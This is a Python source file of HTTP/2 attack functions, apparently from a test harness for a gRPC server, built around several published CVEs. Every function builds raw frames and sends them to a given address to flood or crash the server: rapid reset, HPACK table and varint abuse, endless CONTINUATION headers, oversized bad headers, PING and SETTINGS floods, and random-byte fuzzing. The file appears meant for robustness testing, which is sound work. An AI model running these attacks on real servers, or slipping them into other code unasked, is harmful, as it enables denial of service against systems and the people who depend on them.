"""Attacks by frames: what no library would send, or far more of it than any would.

Each is a function of (address, size, hold_s), as in attacks.py.
"""

import random
import socket
import struct

import h2
from attack_tools import ENCODE, INFO, Tally, await_end, send_all


def rapid_reset(address, size, hold_s):
    """CVE-2023-44487: `size` streams, each opened and reset at once, 1,000 in a piece."""
    del hold_s
    tally = Tally()
    headers = h2.grpc_headers(ENCODE)
    body = h2.message(b"\x0a\x10" + b"x" * 16)
    pieces = []
    for first in range(0, size, 1000):
        # A stream's number may not repeat on a connection; 50 pieces to one.
        base = first % 50000
        piece = bytearray()
        for number in range(base, base + min(1000, size - first)):
            stream = 2 * number + 1
            piece += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers)
            piece += h2.frame(h2.DATA, h2.END_STREAM, stream, body)
            piece += h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL))
        pieces.append(bytes(piece))
    for first in range(0, len(pieces), 50):
        send_all(address, pieces[first:first + 50], tally)
    tally.add("streams", size)
    return tally.text()


def hpack_flood(address, size, hold_s):
    """A 4,000-byte field in the dynamic table, then frames that name it 16,000 times a frame."""
    del hold_s
    tally = Tally()
    first = h2.field("x-bomb", "b" * 4000, indexed=True) + h2.grpc_headers(INFO)
    bomb = h2.grpc_headers(INFO) + b"\xbe" * 16000  # 62: the newest entry of the table
    for _ in range(0, size, 16):
        pieces = [h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, first)]
        for number in range(1, 17):
            pieces.append(
                h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2 * number + 1, bomb))
        send_all(address, pieces, tally)
    return tally.text()


def hpack_varint(address, size, hold_s):
    """CVE-2023-33953: lengths written with endless zeros, and a table that grows and shrinks."""
    del hold_s
    tally = Tally()
    endless = b"\x00\x7f" + b"\x80" * 16000
    resize = b"\x3f\xe1\x1f\x20" * 2000
    pieces = []
    for number in range(size):
        block = endless if number % 2 else resize + h2.grpc_headers(INFO)
        pieces.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, block))
    for piece in pieces:
        send_all(address, [piece], tally)
    return tally.text()


def continuation_flood(address, size, hold_s):
    """Headers that never end: `size` CONTINUATION frames of 16 KiB, in fours of connections."""
    del hold_s
    tally = Tally()
    block = b"".join(h2.field(f"x-{i}", "c" * 1000) for i in range(16))[:16384]
    one = h2.frame(h2.CONTINUATION, 0, 1, block)
    for _ in range(4):
        start = h2.frame(h2.HEADERS, 0, 1, h2.grpc_headers(INFO))
        chunk = one * 16
        try:
            with h2.Connection(address) as connection:
                connection.send(start)
                for _ in range(size // 64):
                    connection.send(chunk)
                    tally.add("frames sent", 16)
                    if connection.drop_input():
                        raise ConnectionResetError
        except OSError:
            tally.add("connections closed by the server")
    return tally.text()


def bad_headers(address, size, hold_s):
    """CVE-2023-1428: a bad te, :scheme or grpclb_client_stats, then too many headers."""
    del hold_s
    tally = Tally()
    for _ in range(size):
        for long_bytes in (9000, 17000, 40000):
            fill = ("x-fill", "f" * long_bytes)
            for block in (h2.grpc_headers(INFO, fill, te="x"),
                          h2.grpc_headers(INFO, fill, scheme="x"),
                          h2.grpc_headers(INFO, ("grpclb_client_stats", "x"), fill),
                          # The order that was reported: the bad field first, the long one after.
                          h2.field("te", "x") + h2.grpc_headers(INFO, fill),
                          h2.grpc_headers(INFO, ("te", "x"), ("content-type", "x"), fill)):
                try:
                    with h2.Connection(address) as connection:
                        connection.send(h2.header_frames(1, block) + h2.frame(
                            h2.DATA, h2.END_STREAM, 1, h2.message(b"")))
                        tally.add(await_end(connection))
                except OSError:
                    tally.add("closed by the server")
    return tally.text()


def control_flood(address, size, hold_s):
    """CVE-2019-9512, -9515, -9518: `size` pings, SETTINGS and empty DATA frames, unread."""
    del hold_s
    tally = Tally()
    ping = h2.frame(h2.PING, 0, 0, b"12345678")
    settings = h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100))
    start = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(INFO))
    for opening, one in ((b"", ping), (b"", settings), (start, h2.frame(h2.DATA, 0, 1))):
        try:
            with h2.Connection(address, timeout=5.0) as connection:
                connection.send(opening)
                for _ in range(size // 1000):
                    connection.send(one * 1000)  # what comes back stays unread
                    tally.add("frames sent", 1000)
        except OSError:
            tally.add("connections closed or stalled by the server")
    return tally.text()


def malformed(address, size, hold_s):
    """Frames and header blocks of random bytes, calls with bytes changed; the same every run."""
    del hold_s
    tally = Tally()
    rng = random.Random(1)
    good = (h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(INFO)) +
            h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(b"")))
    for number in range(size):
        kind = number % 4
        if kind == 0:
            data = h2.PREFACE + rng.randbytes(rng.randrange(1, 300))
        elif kind == 1:
            data = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + b"".join(
                h2.frame(rng.randrange(0, 12), rng.randrange(256), rng.randrange(8),
                         rng.randbytes(rng.randrange(40))) for _ in range(8))
        elif kind == 2:
            data = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(
                h2.HEADERS, h2.END_HEADERS, 1, rng.randbytes(rng.randrange(1, 200)))
        else:
            changed = bytearray(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + good)
            for _ in range(3):
                changed[rng.randrange(24, len(changed))] = rng.randrange(256)
            data = bytes(changed)
        try:
            with h2.Connection(address, preface=False) as connection:
                connection.send(data)
                connection.socket.shutdown(socket.SHUT_WR)
                tally.add("connections")
                connection.drop_input()
        except OSError:
            tally.add("closed by the server")
    return tally.text()
